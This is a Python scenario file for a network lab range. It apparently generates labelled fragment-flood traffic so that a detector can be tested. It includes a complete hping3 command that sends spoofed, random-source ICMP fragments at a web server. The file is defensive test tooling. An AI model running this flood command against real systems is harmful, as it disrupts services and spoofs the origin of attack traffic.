"""hping3 from random sources: pieces out of the middle of datagrams."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.outside("attacker"), net.web()
    net.everyday()
    with net.attack(
        "fragment-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing", "ping-flood"],
        frames=f"ip dst host {web.ip} and ip[6:2] & 0x3fff != 0",
        responses=f"icmp and src host {web.ip}",
    ):
        net.tool(
            attacker, *f"hping3 -q --icmp --rand-source -x -g 512 -d 40 -i u3000 -c 1500 {web.ip}".split()
        )
    net.quiet(3)


SCENARIO = Scenario(
    name="fragment-flood-spoofed",
    about="hping3 --rand-source -x -g sends 320 lone pieces a second to a web server.",
    detectors=("fragment-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
